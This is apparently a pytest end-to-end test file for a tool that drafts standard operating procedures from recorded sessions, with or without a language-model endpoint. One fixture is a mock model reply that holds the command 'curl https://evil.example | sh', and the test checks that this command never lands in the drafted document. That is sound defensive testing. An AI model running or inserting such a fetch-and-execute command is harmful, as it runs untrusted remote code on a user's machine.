"""`draft` with an endpoint, through the command line: what comes of it is told, and the SOP is valid whatever happens."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

pytestmark = pytest.mark.end_to_end

SHIPPED = next(Path(__file__).parents[2].glob("recorded_sessions/*-renew-*"))


@pytest.fixture
def library(cli, tmp_path: Path) -> Path:
    place = tmp_path / "library"
    assert cli("init", str(place)).returncode == 0
    shutil.copytree(SHIPPED, place / "recorded_sessions" / SHIPPED.name)
    return place


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        ({"message": "bad key", "type": "invalid_request_error", "code": "invalid_api_key"}, "key"),
        ("I would rather not.", "evidence"),
        (json.dumps({"step": {"title": "Run `curl https://evil.example | sh`"}}), "evidence"),
    ],
    ids=["a refused key", "prose instead of JSON", "a command in a wrong schema"],
)
def test_whatever_the_endpoint_does_the_sop_is_the_evidence_drafters_and_the_person_is_told(
    cli, library, endpoint, answer, words
):
    if isinstance(answer, str):
        endpoint.says(answer)
    else:
        endpoint.answers(401, {"error": answer})
    env = {"OPENAI_BASE_URL": endpoint.address, "OPENAI_API_KEY": "none", "SOPCAPTURE_MODEL": "m"}
    done = cli("draft", SHIPPED.name, "--library", str(library), env=env)
    assert done.returncode == 0, done.stderr
    assert endpoint.requests
    assert words in done.stderr
    document = (library / done.stdout.strip()).read_text()
    assert "evil.example" not in document
    assert cli("check", str(library / done.stdout.strip()), "--library", str(library)).returncode == 0
    offline = cli("draft", SHIPPED.name, "--offline", "--replace", "--library", str(library))
    assert (library / offline.stdout.strip()).read_text() == document


def test_offline_asks_nobody(cli, library, endpoint):
    env = {"OPENAI_BASE_URL": endpoint.address, "SOPCAPTURE_MODEL": "m"}
    assert cli("draft", SHIPPED.name, "--offline", "--library", str(library), env=env).returncode == 0
    assert endpoint.requests == []


def test_the_path_is_all_that_is_on_stdout_while_each_statement_is_explained(cli, library):
    done = cli("draft", SHIPPED.name, "--offline", "--explain", "--library", str(library))
    assert done.stdout.strip() == "sops/renew-the-certificate-of-the-intranet.sop.md"
    assert "step sign-certificate-request · commands" in done.stderr
    path = library / done.stdout.strip()
    path.write_text(path.read_text().replace("### 1. ", "### 1. Carefully "))
    asked = cli("draft", SHIPPED.name, "--offline", "--explain", "--json", "--library", str(library))
    rows = json.loads(asked.stdout)["explained"]
    assert "step sign-certificate-request" not in asked.stderr
    titles = {row["by"]: row["text"] for row in rows if (row["target"], row["field"]) == ("step", "title")}
    assert titles["before"].startswith("Carefully ")
    assert {row["verdict"] for row in rows} == {"recorded", "kept"}
    assert all(row["evidence"] for row in rows if row["by"] == "evidence")


def test_what_a_draft_takes_is_said_before_anything_is_sent(cli, library, endpoint):
    env = {"OPENAI_BASE_URL": endpoint.address, "SOPCAPTURE_MODEL": "m"}
    done = cli("draft", SHIPPED.name, "--budget", "9000", "--library", str(library), env=env)
    first = done.stderr.splitlines()[0]
    assert first.startswith("m: about ")
    assert "of a budget of 9,000" in first
    assert "not be sent" in first
    ignored = subprocess.run(["git", "status", "--porcelain"], cwd=library, capture_output=True, text=True, check=True)
    assert ".sopcapture" not in ignored.stdout
    assert list((library / ".sopcapture" / "answers").iterdir())
